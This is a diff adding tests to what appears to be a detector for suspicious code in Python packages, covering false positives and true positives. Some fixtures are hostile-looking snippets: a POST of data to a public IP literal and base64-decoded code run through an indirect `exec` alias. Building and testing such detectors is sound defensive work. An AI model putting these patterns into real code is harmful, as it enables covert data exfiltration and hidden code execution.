@@ -182,3 +182,51 @@ describe('reverse shell', () => {
     expect(found.filter((f) => f.includes('reverse-shell'))).toEqual([]);
   });
 });
+
+describe('false positives of real code, fixed by family', () => {
+  it('the cloud metadata address is no drop host; a drop host in a comment runs nothing; a public IP literal still is one', () => {
+    expect(
+      at(`import requests\nIMDS = 'http://169.254.169.254/latest/'\nrequests.get(IMDS)\n`).filter((f) => f.includes('exfiltration')),
+    ).toEqual([]);
+    expect(
+      at(`import requests\nORIGINS = [\n    ("https", "*"),  # see http://bit.ly/1qrySKC\n]\nrequests.get(U)\n`).filter((f) =>
+        f.includes('exfiltration'),
+      ),
+    ).toEqual([]);
+    expect(at(`import requests\nrequests.post('http://203.0.113.9/x', data=D)\n`).filter((f) => f.includes('exfiltration'))).toEqual([
+      'caution exfiltration 2 import',
+    ]);
+  });
+
+  it('a compatibility alias of exec is quiet, but decoded code run through it is danger', () => {
+    expect(at(`import builtins\nexec_ = getattr(builtins, "exec")\n`)).toEqual([]);
+    expect(at(`import builtins, base64\nexec_ = getattr(builtins, "exec")\nexec_(base64.b64decode(P))\n`)).toEqual([
+      'danger decoded-exec 3 import',
+    ]);
+    expect(at(`import builtins\ngetattr(builtins, "exec")(P)\n`)).toEqual(['danger builtins-indirection 2 import']);
+  });
+
+  it('obfuscated-line: text in another script, a regex, a PEM certificate and a table of literals are not payloads; base64 still is', () => {
+    const chinese =
+      '的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处理府研'.slice(
+        0,
+        120,
+      );
+    expect(at(`T = "${chinese}"\n`)).toEqual([]);
+    expect(
+      at(`R = r"{0}/accounts/(?P<account_id>[\\d]+)/namespaces/(?P<namespace>[a-zA-Z0-9._-]+)/groups/(?P<groupname>[^/]+)$"\n`),
+    ).toEqual([]);
+    const pem = Array.from({ length: 20 }, (_, i) => 'MIIDQTCCAimgAwIBAgITBmyfz5m/jAo54vB4ikPmljZbyjANBgkqhkiG9w0BAQsF'.slice(i % 5)).join(
+      '\n',
+    );
+    expect(at(`CA = """-----BEGIN CERTIFICATE-----\n${pem}\n-----END CERTIFICATE-----"""\n`)).toEqual([]);
+    expect(at(`NAMES = {${Array.from({ length: 200 }, (_, i) => `'Name${i}'`).join(', ')}}\n`)).toEqual([]);
+    const b64 = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 97 + 13) % 256)).toString('base64');
+    expect(at(`P = "${b64}"\n`)).toEqual(['caution obfuscated-line 1 import']);
+  });
+
+  it('a long generated line inside a function nothing calls is a note, "in the package"', () => {
+    const long = `def validate(data):\n    raise ValueError(${Array.from({ length: 120 }, (_, i) => `name_${i}`).join(' + ')})\n`;
+    expect(at(long)).toEqual(['info obfuscated-line 2 package']);
+  });
+});
